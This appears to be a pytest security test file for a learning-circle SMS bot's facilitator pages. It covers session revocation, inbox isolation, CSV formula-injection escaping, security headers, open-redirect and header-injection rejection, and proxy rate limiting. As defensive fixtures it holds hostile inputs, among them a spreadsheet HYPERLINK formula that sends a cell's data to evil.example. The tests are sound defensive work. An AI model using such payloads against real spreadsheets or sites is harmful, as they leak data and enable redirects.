"""Issue 22 on the facilitator pages, on every backend: a relay inbox holds only its facilitator's own
threads; signing out ends the session on the server (a copied cookie stops working) and idle sessions
expire; exports never carry a live spreadsheet formula; adding a learner on paper reveals nothing another
circle holds; odd input gets a polite 4xx and every page carries its security headers; behind a proxy each
client keeps its own rate-limit bucket while Twilio's signature still checks against the public URL."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta, timezone

import pytest
from sqlalchemy import select

from bot.store.models import Circle, Enrollment, Message, Outbox, WebSession
from tests.e2e.test_facilitator_pages import A_PHONE, B_PHONE, add_learner, csrf, get, post, sign_in
from tests.helpers import contact_of, make_circle, sign, sms, test_app, text

LEARNER = "+18165550123"
EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Click me")'


@pytest.fixture
def pages(app):
    """A client on https (the session cookie is Secure outside demo)."""
    app.config["WTF_CSRF_SSL_STRICT"] = False
    return app.test_client()


def _joined(client, phone=LEARNER, code="KC42", name="Amina"):
    text(client, f"JOIN {code}", phone)
    text(client, name, phone)
    text(client, "1", phone)


# -- 6. the relay inbox ------------------------------------------------------------------------------------


def test_the_inbox_shows_only_the_signed_in_facilitator_s_own_threads_and_replies(pages, uow, client):
    make_circle(uow, facilitator=A_PHONE)
    make_circle(uow, code="BB77", facilitator=B_PHONE, name="Other circle")
    _joined(client)
    text(client, "Question for A", LEARNER)  # to A, the facilitator of the learner's latest circle
    _joined(client, code="BB77")
    text(client, "Question for B", LEARNER)  # now to B: B's own #1 for the same learner
    text(client, "#1 B's private answer", B_PHONE)
    sign_in(pages, uow)
    token = csrf(pages, "/facilitator/circles/KC42/inbox")
    assert post(pages, "/facilitator/circles/KC42/inbox/1", {"text": "A's own answer"}, token=token).status_code == 302
    page = get(pages, "/facilitator/circles/KC42/inbox").get_data(as_text=True)
    assert "Question for A" in page and "A&#39;s own answer" in page
    assert "B&#39;s private answer" not in page and "Question for B" not in page
    other = pages.application.test_client()
    sign_in(other, uow, B_PHONE)
    theirs = get(other, "/facilitator/circles/BB77/inbox").get_data(as_text=True)
    assert "Question for B" in theirs and "B&#39;s private answer" in theirs
    assert "A&#39;s own answer" not in theirs and "Question for A" not in theirs
    with uow() as db:  # each reply to the learner says who wrote it
        to_learner = db.scalars(select(Outbox).where(Outbox.kind == "relay", Outbox.address == LEARNER)).all()
        writers = sorted((row.dedupe_key.split(":")[0], row.about_contact_id) for row in to_learner)
        assert writers == sorted([("pagerelay", contact_of(db, A_PHONE).id), ("relay", contact_of(db, B_PHONE).id)])


def test_a_co_facilitator_neither_reads_nor_answers_the_lead_s_relays(pages, uow, client):
    make_circle(uow, facilitator=A_PHONE)
    _joined(client)
    text(client, "Only for my facilitator", LEARNER)
    sign_in(pages, uow)
    token = csrf(pages, "/facilitator/circles/KC42")
    assert post(pages, "/facilitator/circles/KC42/co-facilitators", {"phone": B_PHONE}, token=token).status_code == 302
    assert "Only for my facilitator" in get(pages, "/facilitator/circles/KC42/inbox").get_data(as_text=True)
    co = pages.application.test_client()
    sign_in(co, uow, B_PHONE)
    theirs = get(co, "/facilitator/circles/KC42/inbox").get_data(as_text=True)
    assert "Only for my facilitator" not in theirs and "go to the circle's lead facilitator" in theirs
    token = csrf(co, "/facilitator/circles/KC42/inbox")
    assert post(co, "/facilitator/circles/KC42/inbox/1", {"text": "as if the lead"}, token=token).status_code == 404
    with uow() as db:
        assert not db.scalars(select(Outbox).where(Outbox.dedupe_key.like("pagerelay:%"))).all()


def test_a_relay_number_by_text_never_reaches_another_facilitator_s_learner(uow, client):
    make_circle(uow, facilitator=A_PHONE)
    make_circle(uow, code="BB77", facilitator=B_PHONE)
    _joined(client)
    text(client, "hello A", LEARNER)  # A's #1
    text(client, "#1 I am not your facilitator", B_PHONE)  # B has no #1
    with uow() as db:
        assert db.scalars(select(Outbox).where(Outbox.kind == "relay", Outbox.address == LEARNER)).all() == []
    text(client, "#1 from your facilitator", A_PHONE)
    with uow() as db:
        sent = db.scalars(select(Outbox).where(Outbox.kind == "relay", Outbox.address == LEARNER)).one()
        assert sent.about_contact_id == contact_of(db, A_PHONE).id


# -- 7. sessions on the server -----------------------------------------------------------------------------


def _copy(cookie_jar_from, client):
    """A second browser with a copy of the first one's session cookie."""
    value = cookie_jar_from.get_cookie("session", domain="circlebot.example.org").value
    client.set_cookie("session", value, domain="circlebot.example.org", secure=True)
    return client


def test_a_copied_cookie_stops_working_once_its_owner_signs_out(pages, uow):
    make_circle(uow, facilitator=A_PHONE)
    sign_in(pages, uow)
    thief = _copy(pages, pages.application.test_client())
    assert get(thief, "/facilitator/circles").status_code == 200  # a real copy
    assert post(pages, "/facilitator/logout", token=csrf(pages, "/facilitator/circles")).status_code == 302
    replayed = get(thief, "/facilitator/circles")
    assert replayed.status_code == 302 and "/facilitator/login" in replayed.headers["Location"]
    assert get(thief, "/facilitator/circles/KC42/roster").status_code == 302
    assert get(pages, "/facilitator/circles").status_code == 302
    with uow() as db:
        assert db.scalars(select(WebSession)).all() == []
    sign_in(pages, uow)  # signing in again works, with a new session
    assert get(pages, "/facilitator/circles").status_code == 200
    assert get(thief, "/facilitator/circles").status_code == 302


def test_a_session_ends_after_12_hours_idle_and_after_a_day_whatever(pages, uow, runtime, monkeypatch):
    from bot.web import access

    make_circle(uow, facilitator=A_PHONE)
    start = datetime.now(timezone.utc)
    clock = {"now": start}
    monkeypatch.setattr(access, "session_clock", lambda: clock["now"])
    sign_in(pages, uow)
    # sessions age in real time: the demo's clock running a month ahead signs no one out
    monkeypatch.setattr(runtime, "clock", lambda: datetime.now(timezone.utc) + timedelta(days=30))
    for hours in (6, 11.9, 17.8, 23.5):  # each request within 12 hours of the last keeps it open
        clock["now"] = start + timedelta(hours=hours)
        assert get(pages, "/facilitator/circles").status_code == 200, hours
    clock["now"] = start + timedelta(hours=24, minutes=1)  # but no longer than a day after sign-in
    assert get(pages, "/facilitator/circles").status_code == 302
    start = clock["now"]
    sign_in(pages, uow)
    clock["now"] = start + timedelta(hours=11, minutes=59)
    assert get(pages, "/facilitator/circles").status_code == 200
    clock["now"] += timedelta(hours=12, minutes=1)  # 12 hours without a request
    response = get(pages, "/facilitator/circles")
    assert response.status_code == 302 and "/facilitator/login" in response.headers["Location"]
    with uow() as db:
        assert db.scalars(select(WebSession)).all() == []


# -- 8. CSV formula injection -------------------------------------------------------------------------------


def _answer(uow, enrollment_contact, key, value):
    from bot.store.models import Answer

    with uow() as db:
        enrollment = db.scalars(select(Enrollment).where(Enrollment.contact_id == enrollment_contact)).one()
        now = datetime.now(timezone.utc)
        db.add(
            Answer(
                subject=f"enrollment:{enrollment.id}",
                circle_id=enrollment.circle_id,
                question_key=key,
                value=value,
                created_at=now,
                updated_at=now,
            )
        )
        db.commit()


def _cells(csv_text):
    return [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]


def test_exports_never_carry_a_live_formula(pages, uow, cli_env):
    from click.testing import CliRunner

    from bot.cli import main

    make_circle(uow, facilitator=A_PHONE)
    learner = add_learner(uow, LEARNER, name="Amina")
    _answer(uow, learner, "learner:next", EVIL)
    _answer(uow, learner, "checkin:1", "\t=1+2")
    sign_in(pages, uow)
    token = csrf(pages, "/facilitator/circles/KC42/roster")
    typed = {"name": "@SUM(1+9)*cmd", "phone": "816-555-0130", "language": "en"}
    assert post(pages, "/facilitator/circles/KC42/roster/add", typed, token=token).status_code == 302
    web = get(pages, "/facilitator/circles/KC42/export.csv").get_data(as_text=True)
    cli = CliRunner().invoke(main, ["export", "KC42"], catch_exceptions=False).output
    assert _cells(web) == _cells(cli)
    cells = _cells(web)
    assert "'" + EVIL in cells and "'\t=1+2" in cells and "'@SUM(1+9)*cmd" in cells
    assert "'+1******0123" in cells  # a masked number starts with +
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize(
    "cell, safe",
    [
        ("=1+2", "'=1+2"),
        ("+1******0123", "'+1******0123"),
        ("-2", "'-2"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Amina", "Amina"),
        ("5", "5"),
        ("", ""),
        (None, ""),
        ("a=b", "a=b"),
    ],
)
def test_a_cell_that_starts_like_a_formula_is_made_text(cell, safe):
    from bot.reports.export import inert

    assert inert(cell) == safe


# -- 9. adding a learner on paper -------------------------------------------------------------------------


def test_adding_on_paper_reveals_nothing_another_circle_holds(pages, uow, client):
    make_circle(uow, facilitator=A_PHONE)
    make_circle(uow, code="BB77", facilitator=B_PHONE)
    make_circle(uow, code="AA11", facilitator=A_PHONE, name="Second circle")
    _joined(client, "+18165550142", code="AA11", name="Rosa")  # a learner of one of A's own circles
    _joined(client, "+18165550140", code="BB77", name="Zawadi")  # B's learner
    _joined(client, "+18165550141", code="BB77", name="Kofi")
    text(client, "STOP", "+18165550141")  # B's learner who opted out
    sign_in(pages, uow)
    token = csrf(pages, "/facilitator/circles/KC42/roster")
    said = []  # the same answer for a number in another circle and for one that opted out there
    for phone in ("816-555-0140", "816-555-0141"):
        for reach in ("texts", "calls"):
            response = post(
                pages,
                "/facilitator/circles/KC42/roster/add",
                {"name": "Someone", "phone": phone, "language": "en", "reach": reach},
                token=token,
            )
            page = response.get_data(as_text=True)
            assert response.status_code == 400
            assert "Zawadi" not in page and "Kofi" not in page and "asked us to stop" not in page
            said.append(re.findall(r"We can&#39;t add this number[^<]*", page))
    assert said == [["We can&#39;t add this number. Ask the learner to text JOIN KC42 to sign up."]] * 4
    with uow() as db:
        kc42 = db.scalars(select(Circle.id).where(Circle.code == "KC42")).one()
        assert db.scalars(select(Enrollment).where(Enrollment.circle_id == kc42)).all() == []
        assert not db.scalars(select(Outbox).where(Outbox.dedupe_key.like("paper:%"))).all()
    roster = get(pages, "/facilitator/circles/KC42/roster").get_data(as_text=True)
    assert "Zawadi" not in roster and "Kofi" not in roster
    mine = {"name": "Rosa", "phone": "816-555-0142", "language": "en"}  # A already knows her: she is added
    assert post(pages, "/facilitator/circles/KC42/roster/add", mine, token=token).status_code == 302
    assert "Rosa" in get(pages, "/facilitator/circles/KC42/roster").get_data(as_text=True)


# -- 12. headers and odd input ------------------------------------------------------------------------------


def test_every_page_carries_its_security_headers_and_personal_pages_are_never_stored(pages, uow):
    make_circle(uow, facilitator=A_PHONE)
    add_learner(uow, LEARNER)
    login = get(pages, "/facilitator/login")
    sign_in(pages, uow)
    for path in ("/facilitator/login", "/facilitator/circles/KC42/roster", "/facilitator/circles/KC42/flyer"):
        response = login if path.endswith("login") else get(pages, path)
        assert response.status_code == 200, path
        policy = response.headers["Content-Security-Policy"]
        assert (
            "frame-ancestors 'none'" in policy
            and "object-src 'none'" in policy
            and "'unsafe-inline'" not in (policy.split("style-src-attr")[0])
        )
        nonce = re.search(r"'nonce-([^']+)'", policy).group(1)
        page = response.get_data(as_text=True)
        assert all(f'nonce="{nonce}"' in tag for tag in re.findall(r"<(?:script|style)\b[^>]*>", page)), path
        assert " onclick=" not in page
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Cache-Control"] == "no-store"
    export = get(pages, "/facilitator/circles/KC42/export.csv")
    assert export.headers["Cache-Control"] == "no-store" and export.headers["X-Content-Type-Options"] == "nosniff"
    assert (
        get(pages, "/facilitator/login").headers["Content-Security-Policy"] != login.headers["Content-Security-Policy"]
    )  # a new nonce each time
    home = pages.get("/")
    assert "frame-ancestors 'none'" in home.headers["Content-Security-Policy"]
    assert home.headers["X-Content-Type-Options"] == "nosniff"


def test_odd_input_on_the_pages_gets_a_polite_4xx(pages, uow):
    make_circle(uow, facilitator=A_PHONE)
    add_learner(uow, LEARNER)
    sign_in(pages, uow)
    token = csrf(pages, "/facilitator/circles/KC42")
    for big in (2**31, 2**63, 2**64, 10**30):
        for path in (f"meetings/{big}/cancel", f"meetings/{big}/move", f"roster/{big}/promote", f"inbox/{big}"):
            response = post(pages, f"/facilitator/circles/KC42/{path}", {"to": "2027-01-01T10:00"}, token=token)
            assert response.status_code == 404, (path, response.status_code)
    for path, data in (
        ("/facilitator/circles/KC42/roster/add", {"name": "Ami\x00na", "phone": "816-555-0130", "language": "en"}),
        ("/facilitator/circles/KC42/message", {"text": "hi\x00"}),
        ("/facilitator/circles/KC42/edit", {"name": "x\x00", "venue": "v", "language": "en", "capacity": "3"}),
        ("/facilitator/circles/KC42/co-facilitators", {"phone": "\x00"}),
        ("/facilitator/login", {"address": "+1816\x00"}),
    ):
        assert post(pages, path, data, token=token).status_code == 400, path
    assert get(pages, "/facilitator/circles/KC%00").status_code == 400
    assert get(pages, "/facilitator/circles/KC42/segments?text=a%00b").status_code == 400
    with uow() as db:
        assert db.scalars(select(Circle.name)).one() == "Kansas City Basics"
        assert (
            db.scalars(select(Enrollment)).all()
            and not db.scalars(select(Outbox).where(Outbox.kind == "broadcast")).all()
        )
    for back in ("/facilitator/circles\r\nX-Evil: 1", "/facilitator/circles\nx", "https://evil.example/", "//evil"):
        response = post(pages, "/facilitator/language", {"language": "es", "next": back}, token=token)
        assert response.status_code == 302 and response.headers["Location"].endswith("/facilitator/login"), back
        assert "X-Evil" not in response.headers
    kept = post(pages, "/facilitator/language", {"language": "en", "next": "/facilitator/circles/KC42"}, token=token)
    assert kept.headers["Location"].endswith("/facilitator/circles/KC42")
    form = {
        "name": "Kansas City Basics",
        "venue": "Central Library",
        "language": "en",
        "capacity": "12",
        "timezone": "America/Chicago",
        "weekday": "fri",
        "time": "18:00",
        "starts": "9999-12-31",
        "weeks": "6",
    }
    far = post(pages, "/facilitator/circles/KC42/edit", form, token=token)
    assert far.status_code == 400 and "That date is too far ahead." in far.get_data(as_text=True)
    assert post(pages, "/facilitator/circles/new", form, token=token).status_code == 400


# -- 13. behind a proxy -------------------------------------------------------------------------------------


@pytest.fixture
def proxied(backend, tmp_path):
    """The app behind one trusted proxy (TRUSTED_PROXIES=1)."""
    app = test_app(backend, tmp_path, TRUSTED_PROXIES="1")
    app.config["WTF_CSRF_SSL_STRICT"] = False
    yield app
    app.extensions["circlebot"].uow.engine.dispose()


def _ask_codes(client, ip, count):
    token = csrf(client)
    forwarded = {"X-Forwarded-For": ip, "X-Forwarded-Proto": "https"}
    return [
        post(client, "/facilitator/login", {"address": f"nobody{ip}-{n}"}, token=token, headers=forwarded).status_code
        for n in range(count)
    ]


def test_behind_a_trusted_proxy_each_client_has_its_own_rate_limit_and_twilio_still_verifies(proxied, pages, uow):
    client = proxied.test_client()
    assert _ask_codes(client, "203.0.113.7", 21) == [302] * 20 + [429]
    assert _ask_codes(client, "203.0.113.8", 1) == [302]  # someone else behind the same router
    # without the setting (the pages' app) the header is not believed: a forged one dodges nothing
    assert _ask_codes(pages, "203.0.113.9", 20) == [302] * 20
    assert _ask_codes(pages, "203.0.113.10", 1) == [429]
    # Twilio's signature is still checked against PUBLIC_BASE_URL, whatever Host the proxy passes on
    make_circle(uow, facilitator=A_PHONE)
    params = sms("JOIN KC42", sid="SM" + "1" * 32)
    forwarded = {"X-Forwarded-For": "54.172.60.1", "X-Forwarded-Proto": "https", "Host": "10.0.0.5:8000"}
    good = client.post(
        "/twilio/sms", data=params, headers={**forwarded, "X-Twilio-Signature": sign("/twilio/sms", params)}
    )
    assert good.status_code == 200
    forged = dict(params, MessageSid="SM" + "2" * 32)
    bad = client.post(
        "/twilio/sms", data=forged, headers={**forwarded, "X-Twilio-Signature": sign("/twilio/sms", params)}
    )
    assert bad.status_code == 403
    with uow() as db:
        assert len(db.scalars(select(Message).where(Message.direction == "in")).all()) == 1


@pytest.mark.parametrize("value, hops", [(None, 0), ("0", 0), ("1", 1), ("2", 2)])
def test_trusted_proxies_is_a_small_count_of_hops(value, hops):
    from bot.settings import Settings

    assert Settings.from_env({"TRUSTED_PROXIES": value} if value else {}).trusted_proxies == hops


@pytest.mark.parametrize("value", ["-1", "yes", "1.5", "99"])
def test_a_trusted_proxies_value_that_is_not_a_count_is_refused(value):
    from bot.settings import Settings, SettingsError

    with pytest.raises(SettingsError, match="TRUSTED_PROXIES"):
        Settings.from_env({"TRUSTED_PROXIES": value})
